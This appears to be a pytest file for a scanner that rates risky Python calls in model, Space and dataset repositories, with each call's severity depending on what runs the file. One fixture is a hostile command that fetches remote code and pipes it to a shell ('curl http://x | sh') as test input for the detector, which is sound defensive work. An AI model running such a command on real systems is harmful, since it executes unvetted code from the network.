"""What the same file weighs in a dataset and in a Space."""

import pytest

from scanners.facts import Call, Reference
from scanners.judge import judge
from scanners.rules import surfaces
from scanners.rules.policy import Policy
from scanners.rules.triggers import of_finding

STARTS = Call(
    "subprocess",
    "Popen",
    "import",
    "line 1: subprocess.Popen(['python', 'x.py'])",
    ("['python', 'x.py']",),
    ("python", "x.py"),
)
FETCHES = Call(
    "os", "system", "import", "line 1: os.system('curl x | sh')", ("'curl x | sh'",), ("curl http://x | sh",)
)


def weighed(call, path, kind, repo="org/name"):
    found = judge([call], path=path, format="python", policy=Policy.default())
    return {
        (finding.rule, finding.severity, of_finding(finding, "python"))
        for finding in (surfaces.placed(found, path, kind, repo) if kind != "model" else found)
    }


SPACE = "python FILE, which the Hub does when the Space starts"
SCRIPT = "datasets.load_dataset(trust_remote_code=True), datasets before 4.0"


@pytest.mark.parametrize(
    ("call", "path", "kind", "said"),
    [
        (
            STARTS,
            "app.py",
            "model",
            {("python-runs-programs", "critical", ("load", "from_pretrained(trust_remote_code=True)"))},
        ),
        (STARTS, "app.py", "space", {("python-runs-programs", "medium", ("manual run", SPACE))}),
        (
            FETCHES,
            "app.py",
            "space",
            {("python-runs-programs", "critical", ("load", "from_pretrained(trust_remote_code=True)"))},
        ),
        (STARTS, "prepare.py", "dataset", {("python-runs-programs", "medium", ("manual run", "python FILE"))}),
        (
            STARTS,
            "name.py",
            "dataset",
            {("python-runs-programs", "critical", ("load", SCRIPT)), ("dataset-script", "medium", ("load", SCRIPT))},
        ),
    ],
)
def test_a_program_weighs_by_what_runs_it(call, path, kind, said):
    assert weighed(call, path, kind) == said


@pytest.mark.parametrize(
    ("name", "program"),
    [("app.py", None), ("page.html", None), ("data.txt", "data.txt"), ("model.bin", "model.bin"), ("", None)],
)
def test_the_program_of_a_space_may_be_named_like_none(name, program):
    assert surfaces.app([Reference("space.app", "gradio", name, "called")]) == program
